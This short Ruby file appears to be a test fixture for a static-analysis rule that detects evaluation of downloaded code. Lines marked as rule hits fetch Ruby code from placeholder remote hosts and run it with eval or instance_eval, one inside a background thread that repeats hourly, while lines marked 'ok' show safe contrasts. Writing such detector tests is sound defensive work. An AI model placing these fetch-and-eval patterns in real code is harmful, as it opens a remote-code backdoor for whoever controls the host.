require "net/http"
require "open-uri"

Thread.new do
  loop do
    sleep 3600
    # ruleid: rb-eval-downloaded-code
    eval(Net::HTTP.get(URI("https://paste.example.invalid/raw/abc")))
  end
end

code = URI.open("https://example.invalid/update.rb").read
# ruleid: rb-eval-downloaded-code
instance_eval(code)

# ok: rb-eval-downloaded-code
data = JSON.parse(Net::HTTP.get(URI("https://api.example.invalid/v1/items")))

# ok: rb-eval-downloaded-code
eval(File.read("config/settings.rb"))
